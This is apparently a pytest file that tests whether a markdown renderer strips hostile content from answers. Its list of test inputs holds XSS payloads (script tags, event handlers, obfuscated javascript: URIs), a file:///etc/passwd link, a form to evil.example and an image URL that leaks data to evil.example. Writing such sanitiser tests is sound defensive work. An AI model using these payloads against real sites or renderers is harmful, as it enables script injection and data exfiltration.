"""Markdown of an answer: formatted, and nothing in it loads, runs or leaves the allowed schemes."""

from __future__ import annotations

import re

import pytest

from memories.presenting.markdown import rendered

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![a](https://evil.example/a.png?leak=Leeds)",
    "![a][r]\n\n[r]: https://evil.example/a.png",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    '[a](https://x.example "t\\" onmouseover=alert(1) ")',
    "<a href='javascript:alert(1)'>a</a>",
    "<iframe src=https://evil.example></iframe>",
    '<svg><use href="#i-lock"/></svg>',
    "<style>body{display:none}</style>",
    "|a|\n|:-:|\n|<form action=https://evil.example><button>|",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    "<!-- --><b>bold</b>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ALLOWED = set("p br hr h3 h4 h5 h6 strong em s code pre blockquote ul ol li a table thead tbody tr th td".split())


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_an_element_or_an_attribute(text: str) -> None:
    for tag, rest in TAG.findall(rendered(text)):
        assert tag.lower() in ALLOWED
        attributes = re.findall(r'([a-z-]+)="([^"]*)"', rest)
        assert {name for name, _ in attributes} <= {"href", "rel", "title", "start"}
        for name, value in attributes:
            assert name != "href" or value.startswith(("https://", "http://", "mailto:"))


def test_an_image_becomes_a_link() -> None:
    html = rendered("![a chart](https://evil.example/a.png)")
    assert "<img" not in html
    assert '<a href="https://evil.example/a.png" rel="noopener noreferrer nofollow">a chart</a>' in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *so*", "<p><strong>bold</strong> and <em>so</em></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("# Title", "<h3>Title</h3>"),
        ("###### Small", "<h6>Small</h6>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("`x < y`", "<p><code>x &lt; y</code></p>"),
        ("~~no~~", "<p><s>no</s></p>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
    ],
)
def test_usual_markdown_is_formatted(text: str, html: str) -> None:
    assert rendered(text).strip() == html
